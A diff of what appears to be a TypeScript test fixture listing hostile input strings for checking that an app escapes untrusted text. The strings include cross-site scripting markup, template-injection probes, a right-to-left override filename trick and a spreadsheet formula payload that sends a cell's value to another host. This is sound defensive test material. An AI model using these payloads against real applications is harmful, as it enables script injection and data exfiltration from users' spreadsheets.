@@ -20,9 +20,14 @@ import { newAccount } from './sign-in-as';
 export const hostileTexts = {
   markup: `"><script>${call}</script><img src=gone onerror=${call}>' onmouseover=${call} x='`,
   templates: `</script></textarea></title><!--{{7*7}}\${7*7}<%=7*7%>\u202ecod.exe\u2066 &#x3c;b&#x3e;`,
-  formulas: `=HYPERLINK("${elsewhere}?"&A1,"x")\t+1-1@sum|javascript:${call}//`,
+  formulas: `=HYPERLINK("${elsewhere}?"&A1,"x")\t+1-1@sum|javascript:top.__hostile=2//`,
   length: 'W'.repeat(10_000),
 };
+
+const { length, ...short } = hostileTexts;
+
+/** The short ones as one text, of which the watch still tells what has run, and the long one. */
+export const joinedTexts = { 'what breaks out': Object.values(short).join(' '), 'what is long': length };
 
 /** What follows from other columns, stands for another row, or is a word of ours. */
 const kept = new Set([
